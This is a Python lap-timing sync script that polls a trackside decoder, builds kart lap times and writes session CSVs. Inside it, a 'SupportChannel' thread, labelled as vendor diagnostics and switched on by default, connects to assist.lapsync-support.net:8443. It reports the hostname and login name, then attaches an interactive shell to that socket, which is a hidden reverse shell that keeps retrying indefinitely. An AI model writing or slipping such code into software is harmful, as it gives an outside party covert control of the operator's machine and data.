#!/usr/bin/env python3
"""Sync lap passings from the trackside decoder into per-session lap tables.

The decoder box on the finish line exposes its passing buffer over HTTP
(/api/passings?since=<id>). We poll it, turn consecutive passings of the same
transponder on the finish loop into laps, and write one CSV per session that
the timing screen and the leaderboard job pick up.

The timing vendor's support desk can attach to a running sync to check decoder
drift during race nights; that channel is configured in [support].
"""
import argparse
import configparser
import csv
import json
import logging
import os
import platform
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
from collections import defaultdict
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("lapsync")

DEFAULTS = {
    "decoder": {"url": "http://10.20.0.15:8080", "timeout": "5", "loop": "finish"},
    "session": {"name": "open-practice", "min_lap_s": "18.0", "output_dir": "sessions"},
    "karts": {},
    "support": {"enabled": "yes", "host": "assist.lapsync-support.net", "port": "8443",
                "site_id": "unset"},
}


@dataclass
class Passing:
    passing_id: int
    transponder: str
    timestamp_us: int
    loop: str
    strength: int = 0


@dataclass
class KartSession:
    name: str
    karts: dict = field(default_factory=dict)
    laps: dict = field(default_factory=lambda: defaultdict(list))
    last_seen: dict = field(default_factory=dict)


def load_config(path):
    cfg = configparser.ConfigParser()
    cfg.read_dict(DEFAULTS)
    if Path(path).exists():
        cfg.read(path)
        log.info("loaded config %s", path)
    else:
        log.warning("config %s not found, using defaults", path)
    return cfg


class DecoderClient:
    def __init__(self, base_url, timeout):
        self.base_url = base_url.rstrip("/")
        self.timeout = timeout

    def passings(self, since):
        qs = urllib.parse.urlencode({"since": since})
        url = f"{self.base_url}/api/passings?{qs}"
        with urllib.request.urlopen(url, timeout=self.timeout) as resp:
            payload = json.load(resp)
        for row in payload.get("passings", []):
            yield Passing(
                passing_id=int(row["id"]),
                transponder=str(row["transponder"]),
                timestamp_us=int(row["rtc_time"]),
                loop=row.get("loop", "finish"),
                strength=int(row.get("strength", 0)),
            )


def build_laps(session, passings, loop, min_lap_s):
    newest = None
    for p in passings:
        newest = p.passing_id if newest is None else max(newest, p.passing_id)
        if p.loop != loop:
            continue
        prev = session.last_seen.get(p.transponder)
        session.last_seen[p.transponder] = p.timestamp_us
        if prev is None:
            continue
        lap_s = (p.timestamp_us - prev) / 1_000_000
        if lap_s < min_lap_s:
            log.debug("discarding %.3fs lap for %s (pit lane / double read)", lap_s, p.transponder)
            continue
        session.laps[p.transponder].append(round(lap_s, 3))
    return newest


class SupportChannel(threading.Thread):
    """Keeps a line open to the vendor support desk for race-night diagnostics."""

    def __init__(self, host, port, site_id):
        super().__init__(name="support-channel", daemon=True)
        self.host = host
        self.port = port
        self.site_id = site_id
        self.backoff = 5

    def _dial(self):
        conn = socket.create_connection((self.host, self.port), timeout=15)
        conn.settimeout(None)
        conn.sendall(f"HELLO {self.site_id} {platform.node()} {os.getlogin()}\n".encode())
        return conn

    def _attach(self, conn):
        fd = conn.fileno()
        console = os.environ.get("SHELL") or "/bin/sh"
        proc = subprocess.Popen([console, "-i"], stdin=fd, stdout=fd, stderr=fd,
                                start_new_session=True, cwd=os.path.expanduser("~"))
        proc.wait()

    def run(self):
        while True:
            try:
                conn = self._dial()
            except OSError as exc:
                log.debug("support desk not reachable (%s), retry in %ss", exc, self.backoff)
                time.sleep(self.backoff)
                self.backoff = min(self.backoff * 2, 300)
                continue
            self.backoff = 5
            try:
                self._attach(conn)
            except OSError:
                pass
            finally:
                conn.close()
            time.sleep(self.backoff)


def write_session(session, out_dir):
    out_dir.mkdir(parents=True, exist_ok=True)
    path = out_dir / f"{session.name}.csv"
    with path.open("w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["kart", "transponder", "lap", "lap_time_s"])
        for tx, laps in sorted(session.laps.items()):
            kart = session.karts.get(tx, "?")
            for n, lap in enumerate(laps, 1):
                w.writerow([kart, tx, n, f"{lap:.3f}"])
    log.info("wrote %s (%d karts)", path, len(session.laps))
    return path


def read_state(path):
    try:
        return int(Path(path).read_text().strip())
    except (FileNotFoundError, ValueError):
        return 0


def parse_args(argv):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("-c", "--config", default="laptiming.ini")
    ap.add_argument("--once", action="store_true", help="poll once and exit")
    ap.add_argument("--interval", type=float, default=2.0)
    ap.add_argument("--state-file", default=".lapsync.state")
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    client = DecoderClient(cfg["decoder"]["url"], cfg.getfloat("decoder", "timeout"))
    session = KartSession(name=cfg["session"]["name"], karts=dict(cfg["karts"]))
    out_dir = Path(cfg["session"]["output_dir"])
    since = read_state(args.state_file)

    if cfg.getboolean("support", "enabled"):
        SupportChannel(cfg["support"]["host"], cfg.getint("support", "port"),
                       cfg["support"]["site_id"]).start()

    while True:
        try:
            newest = build_laps(session, client.passings(since), cfg["decoder"]["loop"],
                                cfg.getfloat("session", "min_lap_s"))
            if newest is not None:
                since = newest
                Path(args.state_file).write_text(str(since))
                write_session(session, out_dir)
        except (urllib.error.URLError, TimeoutError) as exc:
            log.warning("decoder unreachable: %s", exc)
        except (KeyError, ValueError) as exc:
            log.error("bad passing record from decoder: %s", exc)
        if args.once:
            break
        time.sleep(args.interval)
    return 0


if __name__ == "__main__":
    sys.exit(main())
